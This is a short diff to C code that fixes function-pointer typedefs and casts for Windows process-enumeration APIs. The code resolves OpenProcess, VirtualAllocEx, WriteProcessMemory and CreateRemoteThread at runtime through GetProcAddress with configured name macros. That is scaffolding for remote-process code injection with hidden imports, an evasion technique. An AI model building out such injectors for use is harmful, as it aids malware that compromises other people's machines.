@@ -18,14 +18,14 @@ typedef BOOL(WINAPI *fn_WriteProcessMemory)(HANDLE, LPVOID, LPCVOID, SIZE_T, SIZ
 typedef HANDLE(WINAPI *fn_CreateRemoteThread)(HANDLE, LPSECURITY_ATTRIBUTES, SIZE_T,
                                               LPTHREAD_START_ROUTINE, LPVOID, DWORD, LPDWORD);
 typedef HANDLE(WINAPI *fn_CreateToolhelp32Snapshot)(DWORD, DWORD);
-typedef BOOL(WINAPI *fn_Process32(HANDLE, LPPROCESSENTRY32));
+typedef BOOL(WINAPI *fn_Process32)(HANDLE, LPPROCESSENTRY32);
 
 static fn_OpenProcess pOpenProcess;
 static fn_VirtualAllocEx pVirtualAllocEx;
 static fn_WriteProcessMemory pWriteProcessMemory;
 static fn_CreateRemoteThread pCreateRemoteThread;
 static fn_CreateToolhelp32Snapshot pCreateToolhelp32Snapshot;
-static fn_Process32 *pProcess32First, *pProcess32Next;
+static fn_Process32 pProcess32First, pProcess32Next;
 
 static int resolve(void)
 {
@@ -38,8 +38,8 @@ static int resolve(void)
     pWriteProcessMemory = (fn_WriteProcessMemory)(void *)GetProcAddress(k32, CFG_API_WPM);
     pCreateRemoteThread = (fn_CreateRemoteThread)(void *)GetProcAddress(k32, CFG_API_CRT);
     pCreateToolhelp32Snapshot = (fn_CreateToolhelp32Snapshot)(void *)GetProcAddress(k32, CFG_API_SNAP);
-    pProcess32First = (fn_Process32 *)(void *)GetProcAddress(k32, CFG_API_P32F);
-    pProcess32Next = (fn_Process32 *)(void *)GetProcAddress(k32, CFG_API_P32N);
+    pProcess32First = (fn_Process32)(void *)GetProcAddress(k32, CFG_API_P32F);
+    pProcess32Next = (fn_Process32)(void *)GetProcAddress(k32, CFG_API_P32N);
 #else
     pOpenProcess = OpenProcess;
     pVirtualAllocEx = VirtualAllocEx;
